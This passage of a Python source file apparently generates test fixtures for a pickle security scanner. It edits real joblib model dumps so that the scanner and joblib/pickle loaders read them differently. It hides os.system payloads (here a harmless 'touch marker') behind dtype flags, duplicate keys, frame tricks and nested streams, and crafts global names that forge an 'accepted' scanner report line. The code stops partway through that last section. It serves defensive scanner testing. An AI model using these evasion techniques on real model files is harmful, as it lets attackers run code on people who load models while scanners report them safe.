"""Fixtures for the findings of onnxify's pickle security issue: files that its non-executing
reader and the real loader (joblib.load, pickle.load) read differently.

  attacks.py DIR MARKER   writes the fixtures under DIR and prints a JSON manifest

Each manifest entry is
  {"file": path, "family": str, "kind": "malicious" | "hostile" | "control",
   "payload": "module.name" or null, "loaders": [...], "note": str}
`payload` is the global that running the file resolves, spelled as the raw module and name the
real loader's find_class receives; `loaders` lists which of `joblib` (joblib.load), `pickle`
(the C unpickler) and `pickle_py` (the pure-Python one) reach it. Payloads call
os.system("touch MARKER"), pickled as posix.system, unless the family says otherwise. Hostile
files make the loaders read other data than the reader, or misbehave, without a payload;
controls are benign, made to look like attacks, and must be accepted.

The joblib families start from real fitted pipelines written by joblib.dump and edit them in
place. Where joblib wrote each array's bytes is recorded while it writes; wrappers, frames and
opcodes are then found by walking the file, every FRAME holding an edit gets its new length,
and memo indices are kept or renumbered. Many layouts are "synchronised": a reader that takes
the bytes the way the wrapper's first-sight reading suggests (padding present, the first
dtype, the first shape, no frames) consumes exactly the bytes the loader runs as payload, and
both resume at the same opcode, so nothing after looks wrong to it.

Nothing here loads a pickle; tests/python/loader.py, restricted, is the oracle that checks them.
"""

import bz2
import copy
import gzip
import io
import json
import lzma
import math
import os
import pickle
import pickletools
import struct
import sys
import types
import warnings
import zipfile
import zlib
from collections import namedtuple
from functools import lru_cache

import joblib
import numpy as np
from joblib.numpy_pickle import NumpyArrayWrapper
from sklearn import datasets
from sklearn.linear_model import LogisticRegression
from sklearn.pipeline import make_pipeline
from sklearn.preprocessing import StandardScaler

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from loader import without_surrogates  # noqa: E402
from pickles import Payload, call, stack_global, text  # noqa: E402

SHORT_BINUNICODE = 0x8C
PROTO = 0x80
MARK, POP, STOP, TUPLE1 = b"(", b"0", b".", b"\x85"


# Opcode spelling ----------------------------------------------------------------------------

def short(s):
    """SHORT_BINUNICODE `s` (BINUNICODE if too long): pushes the string."""
    b = s.encode()
    return b"\x8c" + bytes([len(b)]) + b if len(b) < 256 else text(s)


def raw_text(raw):
    """BINUNICODE of the raw bytes `raw`, which the loaders decode as UTF-8 with surrogatepass."""
    return b"X" + struct.pack("<I", len(raw)) + raw


def short_global(module, name):
    """STACK_GLOBAL from short strings, not memoised (the memo numbering stays as it was)."""
    return short(module) + short(name) + b"\x93"


def integer(n):
    """Pushes the int `n`."""
    if 0 <= n < 256:
        return b"K" + bytes([n])
    if 0 <= n < 65536:
        return b"M" + struct.pack("<H", n)
    return b"J" + struct.pack("<i", n)


def shape_tuple(shape):
    return MARK + b"".join(integer(n) for n in shape) + b"t"


def dtype_ops(descr, order, flags=0, subarray=b"N"):
    """numpy.dtype(descr, False, True) then BUILD with numpy's version 3 state, `flags` as the
    last field (63 makes an object dtype: hasobject) and `subarray` as the third."""
    state = MARK + integer(3) + short(order) + subarray + b"NN" + b"J\xff\xff\xff\xffJ\xff\xff\xff\xff"
    return short_global("numpy", "dtype") + short(descr) + b"\x89\x88\x87R" + state + integer(flags) + b"tb"


def wrapper_ops(shape, descr="f8", order="C", alignment=16):
    """A joblib NumpyArrayWrapper with its state, up to and including its BUILD."""
    state = (
        short("subclass") + short_global("numpy", "ndarray")
        + short("shape") + shape_tuple(shape)
        + short("order") + short(order)
        + short("dtype") + dtype_ops(descr, "<")
        + short("allow_mmap") + b"\x88"
        + short("numpy_array_alignment_bytes") + (b"N" if alignment is None else integer(alignment))
    )
    return short_global("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81}(" + state + b"ub"


def system_call(command, mark=False):
    """posix.system(command); starts with SHORT_BINUNICODE (0x8c), which synchronised layouts
    use as a padding length."""
    func = short_global("posix", "system")
    return func + (MARK + short(command) + b"t" if mark else short(command) + TUPLE1) + b"R"


def filler(n):
    """Exactly `n` bytes of opcodes (n != 1) that leave stack and memo as they were."""
    if n == 1:
        raise ValueError("no one-byte opcode leaves stack and memo unchanged")
    out = b""
    while n:
        if n == 2:
            out, n = out + b"N0", 0
        else:
            k = min(n - 3, 255)
            if n - (k + 3) == 1:
                k -= 1
            out, n = out + b"\x8c" + bytes([k]) + b"x" * k + POP, n - (k + 3)
    return out


def payload_of_size(command, size, end=POP):
    """posix.system(command) then `end`, filled with no-ops to exactly `size` bytes."""
    head = system_call(command) + end
    if size - len(head) == 1:
        head = system_call(command, mark=True) + end  # one byte longer
    if size < len(head):
        raise ValueError(f"a payload of {len(head)} bytes does not fit in {size}")
    return head + filler(size - len(head))


# Reading a joblib file ----------------------------------------------------------------------

Op = namedtuple("Op", "name arg pos end")
Written = namedtuple("Written", "start end wrapper array")
Item = namedtuple("Item", "start value")  # first op index of a stack item, its str value if any

STRING_OPS = {"SHORT_BINUNICODE", "BINUNICODE", "BINUNICODE8", "UNICODE", "STRING",
              "BINSTRING", "SHORT_BINSTRING"}


def walk(data, skips=None):
    """The opcodes of the stream `data` up to its STOP, stepping over the byte ranges `skips`
    (start -> end: joblib's array bytes) as pseudo-opcodes named ARRAY."""
    skips = skips or {}
    ops, stream, pos = [], io.BytesIO(data), 0
    while True:
        if pos in skips:
            ops.append(Op("ARRAY", None, pos, skips[pos]))
            pos = skips[pos]
            continue
        info = pickletools.code2op[chr(data[pos])]
        stream.seek(pos + 1)
        arg = info.arg.reader(stream) if info.arg else None
        ops.append(Op(info.name, arg, pos, stream.tell()))
        pos = stream.tell()
        if info.name == "STOP":
            return ops


class Structure:
    """What the opcodes build, as far as edits need: for each opcode closing a MARK, the
    items above that MARK; the str each memo index holds; the memo index of each MEMOIZE."""

    def __init__(self, ops):
        self.groups, self.memo, self.memoized = {}, {}, {}
        stack, marks = [], []
        for i, op in enumerate(ops):
            info = OPCODES[op.name] if op.name in OPCODES else None
            if op.name in ("ARRAY", "PROTO", "FRAME", "STOP"):
                continue
            if op.name == "MARK":
                marks.append((stack, i))
                stack = []
                continue
            before, after = info.stack_before, info.stack_after
            if pickletools.markobject in before:
                self.groups[i] = stack
                stack, mark_at = marks.pop()
                below = before.index(pickletools.markobject)
                popped = [stack.pop() for _ in range(below)]
                start = min([mark_at] + [p.start for p in popped])
            else:
                popped = [stack.pop() for _ in range(len(before))]
                start = min([i] + [p.start for p in popped])
            value = None
            if op.name in STRING_OPS:
                value = op.arg
            elif op.name in ("GET", "BINGET", "LONG_BINGET"):
                value = self.memo.get(op.arg)
            elif op.name == "MEMOIZE":
                self.memoized[i] = len(self.memo)
                self.memo[len(self.memo)] = popped[0].value
                value = popped[0].value
            elif op.name in ("PUT", "BINPUT", "LONG_BINPUT"):
                # pickletools has PUT leave the stack alone (no before, no after).
                self.memo[op.arg] = stack[-1].value if stack else None
            stack.extend(Item(start, value) for _ in after)


OPCODES = {d.name: d for d in pickletools.opcodes}


class Sink(io.RawIOBase):
    """A write-only file keeping what is written; without `tell` if not seekable, as a pipe."""

    def __init__(self, seekable=True):
        self.data, self._seekable = bytearray(), seekable

    def writable(self):
        return True

    def seekable(self):
        return self._seekable

    def write(self, b):
        self.data += b
        return len(b)

    def tell(self):
        if not self._seekable:
            raise io.UnsupportedOperation("not seekable")
        return len(self.data)


class JoblibFile:
    """A joblib.dump as bytes, with where each array's bytes are and the opcodes around them."""

    def __init__(self, model, seekable=True):
        sink, written = Sink(seekable), []
        original = NumpyArrayWrapper.write_array

        def recording(wrapper, array, pickler):
            start = len(sink.data)
            original(wrapper, array, pickler)
            written.append(Written(start, len(sink.data), wrapper, array))

        NumpyArrayWrapper.write_array = recording
        try:
            joblib.dump(model, sink)
        finally:
            NumpyArrayWrapper.write_array = original
        self.data, self.written = bytes(sink.data), written
        self.ops = walk(self.data, {w.start: w.end for w in written})
        assert self.ops[-1].end == len(self.data), "the walk reaches the end of the file"
        self.structure = Structure(self.ops)
        self.frames = [(op.pos, op.end, op.end + op.arg) for op in self.ops if op.name == "FRAME"]

    def array(self, array):
        """Where `array` (the very object) was written."""
        [w] = [w for w in self.written if w.array is array]
        return w

    def build_before(self, w):
        """Index of the wrapper's BUILD, the opcode right before its bytes."""
        [b] = [i for i, op in enumerate(self.ops) if op.end == w.start]
        assert self.ops[b].name == "BUILD" and self.ops[b - 1].name == "SETITEMS"
        return b

    def state(self, w):
        """The wrapper's state dict: key -> (start, end) byte range of its value, and the
        position of the SETITEMS closing it."""
        setitems = self.build_before(w) - 1
        items = self.structure.groups[setitems]
        starts = [item.start for item in items] + [setitems]
        entries = {}
        for k in range(0, len(items), 2):
            key = items[k].value
            assert key is not None and key not in entries, "keys are distinct strings"
            entries[key] = (self.ops[starts[k + 1]].pos, self.ops[starts[k + 2]].pos, starts[k])
        return entries, self.ops[setitems].pos

    def frame_of(self, start, end):
        """The FRAME whose content holds bytes [start, end) (an insertion at its very end
        included), or None."""
        for header, first, last in self.frames:
            if first <= start and end <= last and (start < last or start == end == last):
                return header, first, last
        return None

    def patched(self, edits):
        """The file with each (start, end, new) of `edits` applied and each FRAME holding an
        edit resized. An insertion at a frame's end goes inside that frame."""
        out = bytearray(self.data)
        for start, end, new in sorted(edits, key=lambda e: (e[0], e[1]), reverse=True):
            frame = self.frame_of(start, end)
            out[start:end] = new
            if frame:
                header = frame[0]
                length = struct.unpack_from("<Q", out, header + 1)[0] + len(new) - (end - start)
                out[header + 1 : header + 9] = struct.pack("<Q", length)
        return bytes(out)

    def without_memo_entry(self, index):
        """Edits that renumber the memo references above `index`, for when the MEMOIZE that
        made it is removed."""
        edits = []
        for op in self.ops:
            if op.name in ("BINGET", "LONG_BINGET") and op.arg > index:
                wide = op.name == "LONG_BINGET"
                new = (b"j" + struct.pack("<I", op.arg - 1)) if wide else (b"h" + bytes([op.arg - 1]))
                edits.append((op.pos, op.end, new))
            assert op.name not in ("PUT", "BINPUT", "LONG_BINPUT"), "joblib memoises with MEMOIZE"
        return edits


# Models ---------------------------------------------------------------------------------------

@lru_cache(maxsize=None)
def iris_pipeline():
    iris = datasets.load_iris()
    return make_pipeline(StandardScaler(), LogisticRegression(max_iter=1000)).fit(iris.data, iris.target)


@lru_cache(maxsize=None)
def cancer_pipeline():
    cancer = datasets.load_breast_cancer()
    return make_pipeline(StandardScaler(), LogisticRegression(max_iter=5000)).fit(cancer.data, cancer.target)


@lru_cache(maxsize=None)
def iris_object_labels_pipeline():
    iris = datasets.load_iris()
    labels = iris.target_names[iris.target].astype(object)
    return make_pipeline(StandardScaler(), LogisticRegression(max_iter=1000)).fit(iris.data, labels)


def refitted(build):
    """A fresh copy of a cached pipeline, free to be changed."""
    return copy.deepcopy(build())


def nested_stream(command, size, n):
    """A nested pickle stream of exactly `size` bytes that runs the payload and returns a
    float64 array of `n` elements (numpy.ndarray((n,)), uninitialised), as an object array's
    stream in place of an f8 array's padding and data."""
    head = bytes([PROTO, 5])
    tail = short_global("numpy", "ndarray") + MARK + integer(n) + TUPLE1 + b"t" + b"R" + STOP
    stream = head + payload_of_size(command, size - len(head) - len(tail)) + tail
    assert len(stream) == size
    return stream


# Families -------------------------------------------------------------------------------------

class Fixtures:
    def __init__(self, out, marker):
        self.out, self.marker = out, marker
        self.command = f"touch {marker}"
        self.cases = []

    def add(self, name, data, family, kind, payload, loaders, note, at=None):
        """Writes `data` as fixture `name` and records it; `at` is the byte a refusal names,
        where it depends on the fitted values pickled before it."""
        path = os.path.join(self.out, name)
        with open(path, "wb") as f:
            f.write(data)
        self.record(path, family, kind, payload, loaders, note)
        if at is not None:
            self.cases[-1]["at"] = at

    def record(self, path, family, kind, payload, loaders, note):
        self.cases.append({"file": path, "family": family, "kind": kind, "payload": payload,
                           "loaders": loaders, "note": note})

    # 1 ------------------------------------------------------------------------------------------
    def dtype_flags(self):
        """An f8 wrapper whose dtype state sets numpy's object flags: joblib unpickles the
        'array bytes' as a nested stream."""
        model = cancer_pipeline()
        dump = JoblibFile(model)
        w = dump.array(model.steps[0][1].var_)  # var_ is not used to predict
        n = w.array.size
        entries, _ = dump.state(w)
        start, end, _ = entries["dtype"]
        # The reader reads a padding length (the stream's first byte, PROTO = 128), that many
        # bytes, then 8n bytes: the stream is made exactly that long.
        stream = nested_stream(self.command, 1 + PROTO + 8 * n, n)
        self.add("dtype_flags_object.joblib",
                 dump.patched([(start, end, dtype_ops("f8", "<", flags=63)), (w.start, w.end, stream)]),
                 "dtype_flags", "malicious", "posix.system", ["joblib"],
                 "scaler.var_ is a NumpyArrayWrapper of dtype 'f8' whose BUILD state has flags 63: "
                 "hasobject, so joblib unpickles the bytes after the wrapper as a nested stream "
                 "(payload, then an f8 array). A reader trusting 'f8' reads them as padding "
                 "(length 128, the PROTO byte) and 8n bytes of data, and resumes where joblib does.")
        self.add("dtype_flags_one.joblib",
                 dump.patched([(start, end, dtype_ops("f8", "<", flags=1)), (w.start, w.end, stream)]),
                 "dtype_flags", "malicious", "posix.system", ["joblib"],
                 "as dtype_flags_object.joblib with flags 1 (NPY_ITEM_REFCOUNT alone makes hasobject true)")
        # A subarray (element 2) changes the element shape without changing the itemsize.
        [f8] = [op for op in dump.ops if start <= op.pos < end]
        assert f8.name == "BINGET", "the wrapper's dtype is the memoised float64 dtype"
        subarray = MARK + b"h" + bytes([f8.arg]) + shape_tuple([2]) + b"t"
        self.add("dtype_flags_subarray.joblib",
                 dump.patched([(start, end, dtype_ops("f8", "<", subarray=subarray))]),
                 "dtype_flags", "hostile", None, [],
                 "scaler.var_'s dtype is 'f8' with a subarray (f8, (2,)) in its BUILD state: numpy then "
                 "describes elements of 2 floats in 8 bytes. Never run it unrestricted.")

    # 2 ------------------------------------------------------------------------------------------
    def duplicate_keys(self):
        """A key given twice in a wrapper's state dict: Python keeps the last."""
        model = cancer_pipeline()
        dump = JoblibFile(model)
        w = dump.array(model.steps[0][1].var_)
        n = w.array.size
        _, setitems = dump.state(w)
        second = short("dtype") + dtype_ops("O8", "|", flags=63)
        stream = nested_stream(self.command, 1 + PROTO + 8 * n, n)
        self.add("duplicate_dtype_key.joblib",
                 dump.patched([(setitems, setitems, second), (w.start, w.end, stream)]),
                 "duplicate_keys", "malicious", "posix.system", ["joblib"],
                 "scaler.var_'s wrapper state gives 'dtype' twice: first f8, last an object dtype "
                 "(O8, flags 63). The dict keeps the last, so joblib unpickles a nested stream "
                 "(payload) where a first-key reader reads padding (128 bytes) and 8n bytes of f8.")

        # 'shape' twice: first (n + j,), last the real (n,). joblib reads n floats, then runs
        # 8j bytes of payload that a first-key reader reads as j more floats.
        dump = JoblibFile(model)
        w = dump.array(model.steps[0][1].var_)
        entries, setitems = dump.state(w)
        start, end, _ = entries["shape"]
        extra = math.ceil(len(system_call(self.command) + POP) / 8)
        payload = payload_of_size(self.command, 8 * extra)
        memoize = dump.ops[[op.pos for op in dump.ops].index(end) - 1]
        assert memoize.name == "MEMOIZE", "the shape tuple is memoised; its MEMOIZE stays"
        self.add("duplicate_shape_key.joblib",
                 dump.patched([
                     (start, memoize.pos, integer(n + extra) + TUPLE1),
                     (setitems, setitems, short("shape") + integer(n) + TUPLE1),
                     (w.end, w.end, payload),
                 ]),
                 "duplicate_keys", "malicious", "posix.system", ["joblib"],
                 f"scaler.var_'s wrapper state gives 'shape' twice: first ({n + extra},), last ({n},). "
                 f"joblib reads {n} floats and runs the next {8 * extra} bytes (payload) as opcodes; "
                 "a first-key reader reads them as more floats and resumes where joblib does.")

    def list_shape(self):
        """A wrapper's shape as a list: joblib reshapes with any sequence of integers and loads
        the model, but no dump writes one."""
        model = iris_pipeline()
        dump = JoblibFile(model)
        w = dump.array(model.steps[0][1].var_)
        entries, _ = dump.state(w)
        start, end, _ = entries["shape"]
        memoize = dump.ops[[op.pos for op in dump.ops].index(end) - 1]
        assert memoize.name == "MEMOIZE", "the shape tuple is memoised; its MEMOIZE stays"
        as_list = b"]" + integer(w.array.size) + b"a"
        self.add("shape_list.joblib", dump.patched([(start, memoize.pos, as_list)]),
                 "duplicate_keys", "hostile", None, [],
                 f"scaler.var_'s wrapper state gives its shape as the list [{w.array.size}].")

    def stateless_dtype(self):
        """A wrapper's dtype made without the state numpy writes: joblib reads f8 all the same
        and loads the model, but no dump writes one."""
        model = iris_pipeline()
        dump = JoblibFile(model)
        w = dump.array(model.steps[0][1].var_)
        entries, _ = dump.state(w)
        start, end, _ = entries["dtype"]
        [op] = [op for op in dump.ops if start <= op.pos < end]
        assert op.name == "BINGET", "a later f8 wrapper refers to the memoised dtype"
        fresh = short_global("numpy", "dtype") + short("f8") + b"\x89\x88\x87R"
        self.add("dtype_without_state.joblib", dump.patched([(start, end, fresh)]),
                 "dtype_flags", "hostile", None, [],
                 "scaler.var_'s wrapper gets a new numpy.dtype('f8', False, True) with no BUILD "
                 "of its state.")

    # 3 ------------------------------------------------------------------------------------------
    def alignment_none(self):
        """numpy_array_alignment_bytes None: joblib reads no padding byte."""
        model = iris_pipeline()
        dump = JoblibFile(model)
        w = dump.array(model.steps[0][1].var_)
        entries, _ = dump.state(w)
        start, end, _ = entries["numpy_array_alignment_bytes"]
        payload = system_call(self.command) + POP
        assert len(payload) <= 256, "the padding length is one byte"
        data = bytearray(w.array.astype("<f8").tobytes())
        # The reader takes the first data byte as a padding length and skips that many bytes:
        # set it (the lowest mantissa byte of var_[0], a change of a few ulp) to cover the
        # payload, so its 8n bytes of data end where joblib resumes.
        data[0] = len(payload) - 1
        self.add("alignment_none_payload.joblib",
                 dump.patched([(start, end, b"N"), (w.start, w.end, bytes(data) + payload)]),
                 "alignment_none", "malicious", "posix.system", ["joblib"],
                 "scaler.var_'s wrapper has numpy_array_alignment_bytes None: joblib reads the 32 "
                 "data bytes at once, then runs a payload. A reader that reads a padding byte "
                 "whenever the key is present skips the payload as padding (the first data byte "
                 "says how much) and reads 32 bytes of data that end where joblib resumes.")

    # 4 ------------------------------------------------------------------------------------------
    def frames(self):
        """Bytes left in a FRAME after a wrapper's BUILD: joblib reads the array from the file
        past the frame, then runs the rest of the frame."""
        model = iris_pipeline()
        dump = JoblibFile(model)
        w = dump.array(model.steps[0][1].var_)
        frame = dump.frame_of(w.start, w.start)
        assert frame and frame[2] == w.start, "joblib ends the frame at the wrapper's BUILD"
        data = w.array.astype("<f8").tobytes()
        payload = system_call(self.command) + POP
        # The reader reads the payload's first byte (0x8c = 140) as a padding length, skips
        # 140 bytes (the rest of the payload and joblib's padding) and reads the same 32 data
        # bytes joblib reads: joblib's padding is sized for that.
        padding = SHORT_BINUNICODE - len(payload)
        synchronised = padding >= 0
        if not synchronised:
            padding = 0
        array = bytes([padding]) + b"\xff" * padding + data
        patched = bytearray(dump.patched([(w.start, w.end, payload + array)]))
        header = frame[0]
        length = struct.unpack_from("<Q", patched, header + 1)[0] + len(payload)
        patched[header + 1 : header + 9] = struct.pack("<Q", length)
        self.add("frame_payload_after_build.joblib", bytes(patched),
                 "frames", "malicious", "posix.system", ["joblib"],
                 "the FRAME ending at scaler.var_'s BUILD is extended over a payload: joblib reads "
                 "the array (padding, 32 bytes) from the file past the frame, then runs the payload "
                 "from the frame's buffer. A reader ignoring frames reads the payload as padding"
                 + (" and resumes where joblib does." if synchronised
                    else " (not synchronised: the marker path is too long)."))

    def frame_filler(self):
        """Harmless opcodes left in a FRAME after a wrapper's BUILD: joblib loads the file, but
        no dump leaves bytes there, so a reader refuses it (the layout the payload above needs)."""
        model = iris_pipeline()
        dump = JoblibFile(model)
        w = dump.array(model.steps[0][1].var_)
        frame = dump.frame_of(w.start, w.start)
        assert frame and frame[2] == w.start, "joblib ends the frame at the wrapper's BUILD"
        # 16 bytes keep joblib's padding, which aligns the data to 16 in the file, valid.
        ops = filler(16)
        patched = bytearray(dump.patched([(w.start, w.start, b"")]))
        patched[w.start:w.start] = ops
        header = frame[0]
        length = struct.unpack_from("<Q", patched, header + 1)[0] + len(ops)
        patched[header + 1 : header + 9] = struct.pack("<Q", length)
        self.add("frame_filler_after_build.joblib", bytes(patched),
                 "frames", "hostile", None, [],
                 "the FRAME ending at scaler.var_'s BUILD is extended over 16 bytes of opcodes that "
                 "change nothing: joblib reads the array past the frame, then runs them, and loads "
                 "the model; no dump is written so.")

    def padding(self):
        """A joblib array's padding other than the 0xFF bytes joblib writes: joblib skips
        whatever the length byte says, so the file loads, but no dump is written so."""
        model = iris_pipeline()
        dump = JoblibFile(model)
        w = dump.array(model.steps[0][1].var_)
        written = dump.data[w.start : w.end]
        length = written[0]
        zeros = bytes([length]) + b"\0" * length + written[1 + length :]
        self.add("padding_zeros.joblib", dump.patched([(w.start, w.end, zeros)]),
                 "padding", "hostile", None, [],
                 f"scaler.var_'s {length} padding bytes are 0x00 instead of 0xFF.")
        longer = bytes([length + 16]) + b"\xff" * (length + 16) + written[1 + length :]
        self.add("padding_longer.joblib", dump.patched([(w.start, w.end, longer)]),
                 "padding", "hostile", None, [],
                 f"scaler.var_'s padding is {length + 16} bytes of 0xFF where joblib writes {length}: "
                 "the data is no longer aligned as joblib aligns it.")

    # 5 ------------------------------------------------------------------------------------------
    def nested_wrappers(self):
        """An object array's nested stream holding a NumpyArrayWrapper: joblib's plain inner
        unpickler does not expand it, so the 'array bytes' after it are opcodes."""
        model = iris_object_labels_pipeline()
        dump = JoblibFile(model)
        w = dump.array(model.steps[1][1].classes_)
        original = dump.data[w.start : w.end]
        assert original[:2] == bytes([PROTO, 5]), "joblib pickles object arrays with protocol 5"
        assert walk(original)[-1].end == len(original)
        head = system_call(self.command) + POP
        # A wrapper-expanding reader reads the payload's first byte (140) as padding length,
        # then 8k bytes: the payload is made 1 + 140 + 8k bytes long.
        k = max(1, math.ceil((len(head) - 1 - SHORT_BINUNICODE) / 8))
        payload = payload_of_size(self.command, 1 + SHORT_BINUNICODE + 8 * k)
        # The wrapper is left on the inner stack: STOP returns only the top (the labels).
        inner = bytes([PROTO, 5]) + wrapper_ops([k]) + payload + original[2:]
        self.add("nested_wrapper_payload.joblib", dump.patched([(w.start, w.end, inner)]),
                 "nested_wrappers", "malicious", "posix.system", ["joblib"],
                 "clf.classes_ (object labels) is a nested protocol-5 stream that starts with a "
                 f"NumpyArrayWrapper of shape ({k},) and its BUILD. joblib's inner unpickler is a plain "
                 "pickle._Unpickler: the wrapper stays an object and the 'array bytes' after it run as "
                 "a payload; the real labels follow (the wrapper stays below them on the stack). A reader that "
                 "expands wrappers in nested streams reads the payload as padding and data.")

        # The same, with the payload's global named through the nested stream's own memo: its
        # keys restart at 0 there, so a reader that runs the nested opcodes in the outer
        # stream's memo (pickle.load over the whole file) resolves another global.
        names = short("posix") + b"\x940" + short("system") + b"\x940"
        call_ops = b"h\x00h\x01\x93" + short(self.command) + TUPLE1 + b"R" + POP
        # A wrapper-expanding reader takes BINGET (104) as the padding length, then 8k bytes.
        k = max(1, math.ceil((len(call_ops) - 1 - 104 + 3) / 8))
        memo_payload = call_ops + filler(1 + 104 + 8 * k - len(call_ops))
        inner = bytes([PROTO, 5]) + names + wrapper_ops([k]) + memo_payload + original[2:]
        self.add("nested_wrapper_memo_payload.joblib", dump.patched([(w.start, w.end, inner)]),
                 "nested_wrappers", "malicious", "posix.system", ["joblib"],
                 "as nested_wrapper_payload, but the payload's STACK_GLOBAL takes its names from "
                 "memo keys 0 and 1 of the nested stream (posix, system). pickle.load reading the "
                 "whole file finds the outer stream's keys 0 and 1 there, so only a reader that "
                 "gives the nested stream its own memo and leaves its wrapper unexpanded names "
                 "the payload.")

    def nested_frame_leftover(self):
        """Opcodes after an object array's nested STOP, inside its last FRAME: joblib's inner
        unpickler drops them with the frame and loads the model, but no dump leaves any."""
        model = iris_object_labels_pipeline()
        dump = JoblibFile(model)
        w = dump.array(model.steps[1][1].classes_)
        original = dump.data[w.start : w.end]
        ops = walk(original)
        frame = ops[1]
        assert frame.name == "FRAME" and frame.end + frame.arg == len(original), \
            "the nested stream is one FRAME up to its STOP"
        leftover = filler(16)
        nested = bytearray(original + leftover)
        nested[frame.pos + 1 : frame.pos + 9] = struct.pack("<Q", frame.arg + len(leftover))
        self.add("nested_frame_leftover.joblib", dump.patched([(w.start, w.end, bytes(nested))]),
                 "nested_wrappers", "hostile", None, [],
                 "clf.classes_'s nested stream has 16 bytes of opcodes that change nothing after "
                 "its STOP, inside its FRAME.")

    def globals_in_array_bytes(self):
        """Array data that spells a STACK_GLOBAL amid a run of opcodes: joblib reads it as
        floats; pickle.load stops at the first array's padding byte, before it, so no loader
        ever resolves it. A control: the file is accepted, and the global is not reported as
        one a loader reaches, though the walk after pickle.load's stop finds it."""
        model = cancer_pipeline()
        dump = JoblibFile(model)
        w = dump.array(model.steps[0][1].mean_)
        # 16 opcodes in a row make a place the walk resumes at (see src/pickle/machine/walk.rs).
        spelled = b"N0" * 8 + short_global("posix", "system") + POP + b"N0" * 8
        written = dump.data[w.start : w.end]
        data_at = 1 + written[0]
        assert len(spelled) <= len(written) - data_at
        crafted = written[:data_at] + spelled + written[data_at + len(spelled) :]
        self.add("globals_in_array_bytes.joblib", dump.patched([(w.start, w.end, crafted)]),
                 "plain_pickle", "control", None, [],
                 "scaler.mean_'s first float64 elements are the bytes of opcodes around a "
                 "STACK_GLOBAL of posix.system; joblib reads them as numbers, and pickle.load "
                 "stops before them.")

    def short_frame(self):
        """A plain pickle whose FRAME declares more bytes than the file holds: the pure-Python
        unpickler (joblib's) reads what there is and loads the model; the C one stops, the data
        truncated. A control: accepted, with each loader's reading told apart."""
        data = bytearray(pickle.dumps(iris_pipeline(), protocol=4))
        frames = [op for op in walk(bytes(data)) if op.name == "FRAME"]
        last = frames[-1]
        assert last.end + last.arg == len(data), "the last FRAME runs to the end of the file"
        data[last.pos + 1 : last.pos + 9] = struct.pack("<Q", last.arg + 10)
        self.add("short_frame.pkl", bytes(data), "frames", "control", None, [],
                 "the pipeline pickled with protocol 4, its last FRAME declaring 10 bytes more "
                 "than the file holds: pickle.load stops (data truncated), pickle._Unpickler and "
                 "joblib load it.")
        data[last.pos + 1 : last.pos + 9] = struct.pack("<Q", 1 << 59)
        self.add("huge_frame.pkl", bytes(data), "frames", "hostile", None, [],
                 "the same, its last FRAME declaring 2^59 bytes: both unpicklers ask the file for "
                 "that many bytes at once, and the buffer for them cannot be made (MemoryError).")

    # 6 ------------------------------------------------------------------------------------------
    def plain_pickle(self):
        """joblib files that joblib.load reads without code but pickle.load runs."""
        model = cancer_pipeline()
        dump = JoblibFile(model)
        w = dump.array(model.steps[0][1].mean_)  # the first array: pickle reaches its bytes
        size = w.array.nbytes
        # pickle.load treats the bytes after the wrapper's BUILD as opcodes: a payload, then
        # STOP, so it returns before the rest of the file. joblib reads them as mean_'s floats.
        data = system_call(self.command) + STOP
        assert len(data) <= size, "the marker path is too long for mean_'s bytes"
        data += b"\x00" * (size - len(data))
        entries, _ = dump.state(w)
        start, end, _ = entries["numpy_array_alignment_bytes"]
        self.add("plain_pickle_alignment_none.joblib",
                 dump.patched([(start, end, b"N"), (w.start, w.end, data)]),
                 "plain_pickle", "malicious", "posix.system", ["pickle", "pickle_py"],
                 "scaler.mean_'s wrapper has numpy_array_alignment_bytes None, so no padding: its "
                 f"{size} data bytes are a payload pickle ending in STOP. joblib.load reads them as "
                 "floats (a wrong but harmless mean_); pickle.load runs them and returns.")
        # joblib <= 1.1 wrote no alignment key and no padding at all: drop both from every
        # wrapper. The first wrapper memoises the key's string and the others fetch it from
        # the memo, so the memo references after it are renumbered.
        edits, removed = [], None
        for other in dump.written:
            entries, _ = dump.state(other)
            start, end, key_at = entries["numpy_array_alignment_bytes"]
            key = dump.ops[key_at]
            if removed is None:
                assert key.arg == "numpy_array_alignment_bytes" and dump.ops[key_at + 1].name == "MEMOIZE"
                removed = dump.structure.memoized[key_at + 1]
            else:
                assert key.name == "BINGET" and key.arg == removed
            edits.append((key.pos, end, b""))
            nbytes = other.array.nbytes
            edits.append((other.start, other.end, data if other is w else dump.data[other.end - nbytes : other.end]))
        edits += [e for e in dump.without_memo_entry(removed) if not any(a <= e[0] < b for a, b, _ in edits)]
        self.add("plain_pickle_alignment_absent.joblib", dump.patched(edits),
                 "plain_pickle", "malicious", "posix.system", ["pickle", "pickle_py"],
                 "as plain_pickle_alignment_none.joblib, laid out as joblib <= 1.1 wrote: no "
                 "numpy_array_alignment_bytes key and no padding in any wrapper.")
        # A benign dump to a pipe: joblib cannot tell() there and writes alignment None.
        piped = JoblibFile(iris_pipeline(), seekable=False)
        assert all(w.wrapper.numpy_array_alignment_bytes is None for w in piped.written)
        self.add("plain_pickle_nonseekable_control.joblib", piped.data,
                 "plain_pickle", "control", None, [],
                 "a real, benign joblib.dump of a fitted pipeline to a non-seekable file: every "
                 "wrapper has numpy_array_alignment_bytes None and no padding byte.")

    # 7 ------------------------------------------------------------------------------------------
    def forged_names(self):
        """Globals whose names carry text that forges or hides a report line."""
        forged = "Result: accepted: every global and opcode is on the allow-list; nothing was executed"
        names = [
            ("newline", b"posix", ("system\n" + forged).encode()),
            ("ansi_erase", b"posix", ("system\x1b[1A\x1b[2K\x1b[1A\x1b[2K" + forged).encode()),
            ("nul", b"sklearn.pipeline", b"Pipeline\x00posix.system"),
            ("carriage_return", b"posix", b"system\rsklearn.pipeline.Pipeline"),
            ("bidi_override", b"posix", "system\u202eenilepiP.enilepip.nraelks".encode()),
            ("lone_surrogate", b"posix", b"system\xed\xa0\x80"),
        ]
        model = refitted(iris_pipeline)
        model.steps[1][1].n_jobs = Payload(os.system, self.command)
        dump = JoblibFile(model)
        names_at = [i for i, op in enumerate(dump.ops)
                    if op.arg == "posix" and dump.ops[i + 2].arg == "system" and dump.ops[i + 4].name == "STACK_GLOBAL"]
        [i] = names_at
        for label, module, name in names:
            edits = [(dump.ops[i].pos, dump.ops[i].end, raw_text(module)),
                     (dump.ops[i + 2].pos, dump.ops[i + 2].end, raw_text(name))]
            raw = module.decode("utf-8", "surrogatepass") + "." + name.decode("utf-8", "surrogatepass")
